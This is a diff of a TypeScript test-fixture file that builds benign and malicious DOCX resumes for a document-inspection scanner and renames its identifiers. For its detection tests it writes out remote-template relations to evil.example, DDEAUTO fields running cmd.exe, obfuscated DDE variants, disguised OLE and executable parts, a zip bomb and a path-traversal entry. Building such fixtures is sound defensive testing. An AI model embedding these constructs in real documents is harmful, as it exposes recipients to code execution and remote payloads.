@@ -1,37 +1,37 @@
-import { docx, type Entry, relationship, zip } from './resume-files.ts';
+import { docx, relationship, type ZipEntry, zip } from './resume-files.ts';
 
-/** DOCX resumes of all kinds, with what an inspection has to say of them. */
+/** DOCX test files, each with the expected inspection result. */
 
-type Harmless = readonly [name: string, file: Buffer];
-type Telling = readonly [name: string, file: Buffer, finding: string];
+type HarmlessCase = readonly [name: string, file: Buffer];
+type FindingCase = readonly [name: string, file: Buffer, finding: string];
 
 const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]);
-const wordNames = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
-const header = (xml: string): Entry => ({
+const wordNamespace = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
+const header = (xml: string): ZipEntry => ({
   name: 'word/header1.xml',
-  content: `<?xml version="1.0" encoding="UTF-8"?><w:hdr ${wordNames}>${xml}</w:hdr>`,
+  content: `<?xml version="1.0" encoding="UTF-8"?><w:hdr ${wordNamespace}>${xml}</w:hdr>`,
 });
 const field = (...codes: readonly string[]) =>
   `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${codes.map((code) => `<w:r><w:instrText>${code}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;
-const relations = (name: string, content: string | Buffer): Entry => ({ name, content });
+const relations = (name: string, content: string | Buffer): ZipEntry => ({ name, content });
 const relationType = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
-const template = (mode: string, target = 'http://evil.example/t.dotm') =>
+const templateRelation = (mode: string, target = 'http://evil.example/t.dotm') =>
   `<?xml version="1.0"?><Relationships><Relationship Id="r9" Type="${relationType}/attachedTemplate" Target="${target}" TargetMode="${mode}"/></Relationships>`;
-const internal = (type: string, target: string) =>
+const internalRelation = (type: string, target: string) =>
   relations(
     'word/_rels/document.xml.rels',
     `<Relationships><Relationship Id="r9" Type="${relationType}/${type}" Target="${target}"/></Relationships>`,
   );
 const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
-const contentTypes = (more: string) =>
-  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>${more}</Types>`;
+const contentTypes = (additional: string) =>
+  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>${additional}</Types>`;
 const picture = { name: 'word/media/image1.png', content: Buffer.from('89504e470d0a1a0a', 'hex') };
 const svg = '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "a" "b"><svg xmlns="http://www.w3.org/2000/svg"/>';
-const elsewhere = 'a part that is loaded from elsewhere (attachedTemplate)';
-const object = 'an embedded object or file';
+const externalTemplate = 'a part that is loaded from elsewhere (attachedTemplate)';
+const embeddedObject = 'an embedded object or file';
 const bomb = Buffer.alloc(300 * 1024 * 1024);
 
-export const harmlessDocx: readonly Harmless[] = [
+export const harmlessDocx: readonly HarmlessCase[] = [
   ['plain', docx()],
   ['in Devanagari', docx([], 'आशा राणे')],
   [
@@ -55,7 +55,7 @@ export const harmlessDocx: readonly Harmless[] = [
     'with a form field and a link as a field',
     docx([header(field(' FORMTEXT ') + field(' HYPERLINK "https://asha.example/import" '))]),
   ],
-  ['in UTF-16', docx([{ name: 'word/styles.xml', content: utf16(`<w:styles ${wordNames}/>`) }])],
+  ['in UTF-16', docx([{ name: 'word/styles.xml', content: utf16(`<w:styles ${wordNamespace}/>`) }])],
   [
     'with stored parts',
     docx([{ name: 'word/media/photo.jpg', content: Buffer.alloc(90_000, 7), method: 0 }]),
@@ -68,49 +68,49 @@ export const harmlessDocx: readonly Harmless[] = [
   ],
 ];
 
-export const activeDocx: readonly Telling[] = [
+export const activeDocx: readonly FindingCase[] = [
   [
-    'B8: a character reference in TargetMode',
-    docx([relations('word/_rels/document.xml.rels', template('&#69;xternal'))]),
-    elsewhere,
+    'a character reference in TargetMode',
+    docx([relations('word/_rels/document.xml.rels', templateRelation('&#69;xternal'))]),
+    externalTemplate,
   ],
   [
-    'B8: relations in UTF-16',
-    docx([relations('word/_rels/document.xml.rels', utf16(template('External')))]),
-    elsewhere,
+    'relations in UTF-16',
+    docx([relations('word/_rels/document.xml.rels', utf16(templateRelation('External')))]),
+    externalTemplate,
   ],
   [
-    'B8: relations in UTF-16 without a mark',
-    docx([relations('word/_rels/document.xml.rels', Buffer.from(template('External'), 'utf16le'))]),
-    elsewhere,
+    'relations in UTF-16 without a byte order mark',
+    docx([relations('word/_rels/document.xml.rels', Buffer.from(templateRelation('External'), 'utf16le'))]),
+    externalTemplate,
   ],
   [
-    'B8: relations called .RELS',
-    docx([relations('word/_rels/settings.xml.RELS', template('External'))]),
-    elsewhere,
+    'relations with the extension .RELS',
+    docx([relations('word/_rels/settings.xml.RELS', templateRelation('External'))]),
+    externalTemplate,
   ],
   [
-    'B8: a template at an address that ends like a link',
+    'a template at an address that ends like a link',
     docx([
       relations(
         'word/_rels/document.xml.rels',
-        template('External', 'http://evil.example/relationships/hyperlink'),
+        templateRelation('External', 'http://evil.example/relationships/hyperlink'),
       ),
     ]),
-    elsewhere,
+    externalTemplate,
   ],
   [
-    'B8: OLE called a picture',
+    'OLE data in the folder of pictures',
     docx([{ name: 'word/media/x.bin', content: ole }]),
     'macros or an embedded object',
   ],
   [
-    'B8: macros under another name',
+    'macros with the extension .jpg',
     docx([{ name: 'word/media/photo.jpg', content: ole }]),
     'macros or an embedded object',
   ],
   [
-    'B8: macros by their content type',
+    'macros by their content type',
     docx(
       [{ name: 'word/notes.bin', content: 'x' }],
       'CV',
@@ -132,32 +132,32 @@ export const activeDocx: readonly Telling[] = [
     'macros',
   ],
   [
-    'B8: altChunk',
-    docx([internal('aFChunk', '/word/chunk.html'), { name: 'word/chunk.html', content: '<html/>' }]),
+    'altChunk',
+    docx([internalRelation('aFChunk', '/word/chunk.html'), { name: 'word/chunk.html', content: '<html/>' }]),
     'another document inside (altChunk)',
   ],
-  ['B8: altChunk as an element', docx([header('<w:altChunk/>')]), 'another document inside (altChunk)'],
+  ['altChunk as an element', docx([header('<w:altChunk/>')]), 'another document inside (altChunk)'],
   [
-    'B8: DDEAUTO',
+    'DDEAUTO',
     docx([header(field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '))]),
     'a field that fetches or starts something (DDEAUTO)',
   ],
   [
-    'B8: DDEAUTO over several runs',
+    'DDEAUTO over several runs',
     docx([header(field('D', '<![CDATA[DE]]>', '&#65;UTO calc'))]),
     'a field that fetches or starts something (DDEAUTO)',
   ],
   [
-    'a part called a picture',
+    'a part with the extension .svg',
     docx([{ ...header(field(' DDE excel x ')), name: 'word/header1.svg' }]),
     'a field that fetches or starts something (DDE)',
   ],
   [
-    'a part without an ending that begins with blanks',
+    'a part without an extension that begins with spaces',
     docx([
       {
         name: 'word/header1',
-        content: `${' '.repeat(300)}<w:hdr ${wordNames}>${field(' DDE excel x ')}</w:hdr>`,
+        content: `${' '.repeat(300)}<w:hdr ${wordNamespace}>${field(' DDE excel x ')}</w:hdr>`,
       },
     ]),
     'a field that fetches or starts something (DDE)',
@@ -173,7 +173,7 @@ export const activeDocx: readonly Telling[] = [
     'a field that fetches or starts something (DDE)',
   ],
   [
-    'a field whose name another field makes',
+    'a field whose name another field computes',
     docx([
       header(
         `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${field(' REF a ')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
@@ -206,17 +206,17 @@ export const activeDocx: readonly Telling[] = [
     docx([
       { name: 'word/embeddings/a.xlsx', content: zip([]).toString('latin1').padStart(30, 'PK\x03\x04') },
     ]),
-    object,
+    embeddedObject,
   ],
-  ['an embedded object by its relation', docx([internal('oleObject', 'a.bin')]), object],
+  ['an embedded object by its relation', docx([internalRelation('oleObject', 'a.bin')]), embeddedObject],
   ['an ActiveX control', docx([header('<w:control/>')]), 'an ActiveX control'],
-  ['an add-in', docx([internal('webextension', 'a.xml')]), 'an Office add-in'],
+  ['an add-in', docx([internalRelation('webextension', 'a.xml')]), 'an Office add-in'],
   ['a program', docx([{ name: 'word/media/a.png', content: 'MZ\x90' }]), 'a program'],
 ];
 
-export const unreadableDocx: readonly Telling[] = [
+export const unreadableDocx: readonly FindingCase[] = [
   [
-    'B8: a bomb of 300 MB that claims 1000 bytes',
+    'a bomb of 300 MB that claims 1000 bytes',
     docx([{ name: 'word/media/a.png', content: bomb, claimedBytes: 1000 }]),
     'damaged',
   ],
@@ -226,17 +226,25 @@ export const unreadableDocx: readonly Telling[] = [
     'larger than 50 MB when unpacked',
   ],
   [
-    'a locked document',
+    'an encrypted document',
     Buffer.concat([ole, Buffer.from('EncryptedPackage', 'utf16le')]),
     'locked with a password',
   ],
-  ['a locked part', docx([{ name: 'word/a.xml', content: 'x', encrypted: true }]), 'locked with a password'],
   [
-    'an odd compression',
+    'an encrypted part',
+    docx([{ name: 'word/a.xml', content: 'x', encrypted: true }]),
+    'locked with a password',
+  ],
+  [
+    'an unknown compression method',
     docx([{ name: 'word/a.xml', content: 'x', method: 12 }]),
     'packed in an unusual way',
   ],
-  ['a name twice', docx([{ name: 'word/Document.xml', content: '<a/>' }]), 'with two parts of one name'],
+  [
+    'two parts with one name',
+    docx([{ name: 'word/Document.xml', content: '<a/>' }]),
+    'with two parts of one name',
+  ],
   ['a path out of the archive', docx([{ name: '../../etc/passwd', content: 'x' }]), 'damaged'],
   [
     '2000 parts',
